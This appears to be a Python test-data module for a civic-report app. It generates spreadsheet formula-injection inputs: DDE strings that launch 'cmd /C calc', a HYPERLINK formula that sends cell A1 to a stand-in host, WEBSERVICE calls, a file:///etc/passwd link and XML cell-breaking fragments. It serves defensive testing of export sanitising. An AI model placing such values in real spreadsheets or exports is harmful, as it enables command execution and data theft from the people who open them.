"""What a citizen may write to make a spreadsheet calculate, open or fetch something."""

from __future__ import annotations

CALCULATED = (
    "1+1",
    'HYPERLINK("http://example.invalid/?x="&A1,"xem")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("http://example.invalid")',
)
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
BEFORE = ("", " ", "\t", "\r", "\n", "\r\n", "\x00", "\u200b", "\ufeff", "\u00a0", "\u2060", '"', "'", "“", '"\u200b ', "\u3000")
APART = (";", ",", "\t", "|", "\n", '";', '",', '"\n', "; \u200b", ";'", ';"')
LINKS = (
    *("http://example.invalid/", "https://example.invalid", "ftp://example.invalid", "mailto:a@example.invalid", "internal:A1"),
    *("external:c:\\x.xlsx", "file:///etc/passwd", "www.example.invalid", 'DDE("cmd";"/C calc";"x")', "\\\\example.invalid\\x"),
)
XML = (
    "<f>1+1</f>",
    "</t></is></c><c><f>1+1</f></c>",
    "]]><f>1</f>",
    "&lt;f&gt;",
    "&#61;1+1",
    "_x003D_1+1",
    "_x0000_",
    "<r><t>a</t></r>",
    "{=1+1}",
)

PAYLOADS = tuple(
    dict.fromkeys(
        [before + sign + "1+1" for before in BEFORE for sign in SIGNS]
        + [sign + text for sign in SIGNS for text in CALCULATED]
        + [f"đèn hỏng{apart}{sign}1+1" for apart in APART for sign in SIGNS[:4]]
        + [*LINKS, *XML, "\t1", "\n1", "\x0b=1", "\x1f=1", "\x7f=1", "\u2028=1", "0912345678", "1e5", "TRUE", "1/2", " "]
    )
)
